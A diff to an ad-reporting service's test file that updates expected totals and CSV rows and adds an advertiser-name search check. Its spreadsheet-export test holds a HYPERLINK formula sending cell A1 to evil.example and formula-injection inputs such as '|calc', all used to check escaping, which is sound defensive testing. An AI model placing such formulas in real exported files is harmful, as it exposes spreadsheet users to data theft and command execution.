@@ -129,7 +129,15 @@ test('a report tells what was billed, by every dimension, and the rows sum to th
   ]);
   const whole = await report('');
   assert.equal(whole.status, 200);
-  const total = { shown: 607, viewable: 387, clicks: 10, conversions: 0, reach: 226, spend: 7_285 };
+  const total = {
+    shown: 607,
+    viewable: 387,
+    clicks: 10,
+    conversions: 0,
+    reach: 226,
+    spend: 7_285,
+    reversed: 0,
+  };
   assert.deepEqual(whole.body.total, total);
   for (const by of [
     'day',
@@ -199,7 +207,7 @@ test('a file for spreadsheets holds exact money, and no name in it is a formula'
   assert.match(reply.headers.get('content-disposition') ?? '', /^attachment/);
   const text = await reply.text();
   assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example?""&A1,""more"")"`), text);
-  assert.ok(text.includes(',226,"72.85"\r\n'), text);
+  assert.ok(text.includes(',226,"72.85","0.00"\r\n'), text);
   const base = (await report('by=campaign')).body;
   for (const evil of ['+1', '-1', '@x', '\t=1', '＝1', '|calc']) {
     const rows = base.rows.map((row) => ({ ...row, names: { campaign: evil } }));
@@ -287,6 +295,11 @@ test('the library has every ad that was shown, in the words that were shown, for
   await sweep('ads.library');
   assert.ok((await library('q=fresh')).items.length === 1, 'what people saw stays as they saw it');
   assert.equal((await library('q=quite')).items.length, 0, 'what nobody saw is not there');
+  // Whoever pays is found by the names of now, beside the words of then.
+  const named = { legalName: 'Kettle & Sons' };
+  assert.equal((await call(tea, 'PATCH', '/advertisers/tea-house', named)).status, 200);
+  assert.equal((await library('q=kettle%20fresh')).items.length, 1);
+  assert.equal((await library('q=kettle%20nowhere')).items.length, 0);
 });
 
 test('an ad that an order hides is in the library without its content', async () => {
